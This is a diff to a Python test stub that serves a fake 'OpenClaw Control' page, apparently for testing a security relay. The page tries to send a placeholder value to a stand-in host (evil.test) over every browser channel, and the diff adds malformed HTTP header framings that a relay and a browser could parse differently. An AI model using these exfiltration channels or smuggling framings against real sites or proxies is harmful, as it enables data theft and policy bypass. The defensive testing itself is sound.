@@ -4,13 +4,16 @@ that rewrote OpenClaw's control UI could serve. Python stdlib only.
 launch_ui_exfil_stub.py SOCKET COLLECTOR. GET / answers a page that tries to send "stolen" to
 COLLECTOR (http://evil.test:<port>, another site) every way a page can without the user: fetch,
 sendBeacon, an image, a script, a stylesheet, a frame, a form posted into a hidden frame, a
-WebSocket, a dedicated worker's fetch, a service worker, a violation report of its own policy; /worker.js and /sw.js are those workers'
-scripts. Answers keep the connection alive (as Node's do). Exits after 10 minutes."""
+WebSocket, a dedicated worker's fetch, a service worker, a violation report of its own policy;
+/worker.js and /sw.js are those workers' scripts. GET /?mode=M frames the page's answer head in a
+way a relay could read differently from the browser (review 14b R1, R2; FRAMINGS below), and the
+page's data is then "stolen-M". Answers keep the connection alive (as Node's do). Exits after 10
+minutes."""
 import os, socket, sys, threading, time
 
 path, collector = sys.argv[1], sys.argv[2]
 
-PAGE = """<!doctype html><html><head><title>OpenClaw Control</title>
+PAGE = """<!doctype html><!--\r\n\r\n a relay that looks for CRLF CRLF only ends the head here --><html><head><title>OpenClaw Control</title>
 <link rel="stylesheet" href="C/style?d=stolen"></head><body>hello-ui
 <img src="C/img?d=stolen">
 <iframe src="C/frame?d=stolen"></iframe>
@@ -39,11 +42,28 @@ SW = 'self.addEventListener("install", () => fetch("C/sw?d=stolen", {mode: "no-c
 # connect-src.
 REPORTING = "Content-Security-Policy: media-src 'none'; report-uri C/report?d=stolen\r\n".replace("C/", collector + "/")
 
+# How the answer head to GET /?mode=M is framed: (status and interim lines before the fields,
+# line end, the reporting policy's spelling).
+FRAMINGS = {
+    "plain": ("", "\r\n", REPORTING),
+    "lf": ("", "\n", REPORTING.replace("\r\n", "\n")),  # bare LF line ends
+    "crlf-lf": ("", "\r\n", REPORTING),  # CRLF lines, the head ended by CRLF LF (below)
+    "interim-space": ("HTTP/1.1  100 Continue\r\n\r\n", "\r\n", REPORTING),
+    "interim-zero": ("HTTP/1.1 0100\r\n\r\n", "\r\n", REPORTING),
+    "interim-101": ("HTTP/1.1 101 Switching Protocols\r\n\r\n", "\r\n", REPORTING),
+    "fold": ("", "\r\n", REPORTING.replace("; report-uri", ";\r\n report-uri")),
+    "space-colon": ("", "\r\n", REPORTING.replace("Policy:", "Policy :")),
+    "lf-field": ("", "\r\n", "X-A: 1\n" + REPORTING),
+}
 
-def answer(c, ctype, body):
+
+def answer(c, ctype, body, mode="plain"):
+    before, eol, reporting = FRAMINGS[mode]
     data = body.encode()
-    c.sendall(f"HTTP/1.1 200 OK\r\nContent-Type: {ctype}\r\nContent-Length: {len(data)}\r\n{REPORTING}"
-              f"Connection: keep-alive\r\n\r\n".encode() + data)
+    head = (f"HTTP/1.1 200 OK{eol}Content-Type: {ctype}{eol}Content-Length: {len(data)}{eol}{reporting}"
+            f"Connection: keep-alive{eol}")
+    end = "\n" if mode == "crlf-lf" else eol
+    c.sendall((before + head + end).encode() + data)
 
 
 def serve(c):
@@ -58,10 +78,13 @@ def serve(c):
                 data += chunk
             head, _, data = data.partition(b"\r\n\r\n")
             target = head.split(b" ")[1].decode() if b" " in head else "/"
+            mode = target.split("mode=", 1)[1] if "mode=" in target else "plain"
             if target == "/worker.js":
                 answer(c, "text/javascript", WORKER)
             elif target == "/sw.js":
                 answer(c, "text/javascript", SW)
+            elif mode in FRAMINGS:
+                answer(c, "text/html", PAGE.replace("d=stolen", "d=stolen-" + mode), mode)
             else:
                 answer(c, "text/html", PAGE)
     except OSError:
